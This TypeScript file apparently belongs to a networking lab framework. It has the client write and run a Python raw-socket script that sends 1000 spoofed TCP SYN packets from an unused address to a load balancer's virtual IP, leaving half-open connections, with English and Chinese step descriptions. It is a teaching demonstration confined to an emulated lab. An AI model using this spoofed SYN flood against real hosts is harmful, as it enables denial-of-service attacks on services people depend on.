import type { Command, CommandObservation } from "./experiment";

/** SYNs of a flood. A real one is a thousand times that; two seconds are what an emulated machine needs for it. */
export const floodSize = 1000;

/**
 * Writes a program for the client that sends SYNs to the VIP from the last address of its network, which no machine has:
 * the real servers' SYN, ACKs find nobody, and nobody ends the half-open connections. Nothing of it leaves the lab.
 */
export const writeFlood: Command = {
  on: "client",
  run: `cat > /tmp/flood.py << 'END'
import ipaddress, socket, struct
vip, port = "{VIP}", {PORT}
nobody = ipaddress.ip_network("{OUTSIDE}")[-2].packed
def tcp(source_port, checksum):
    return struct.pack("!HHLLBBHHH", source_port, port, 1, 0, 80, 2, 1024, checksum, 0)
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    return ~((total & 65535) + (total >> 16)) & 65535
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
ip = struct.pack("!BBHHHBBH4s4s", 69, 0, 40, 0, 0, 64, 6, 0, nobody, socket.inet_aton(vip))
for source_port in range(10000, ${10_000 + floodSize}):
    sum_of = checksum(ip[12:] + struct.pack("!HH", 6, 20) + tcp(source_port, 0))
    raw.sendto(ip + tcp(source_port, sum_of), (vip, 0))
print("${floodSize} SYNs sent")
END`,
};

export const removeFlood: Command = { on: "client", run: "rm /tmp/flood.py" };

export const floods: CommandObservation = {
  on: "client",
  run: "python3 /tmp/flood.py",
  says: {
    en: `the client sends ${floodSize} SYNs from an address that no machine has`,
    zh: `客户端用没有机器使用的源地址发出 ${floodSize} 个 SYN`,
  },
  holds: ({ output }) => output === `${floodSize} SYNs sent`,
};
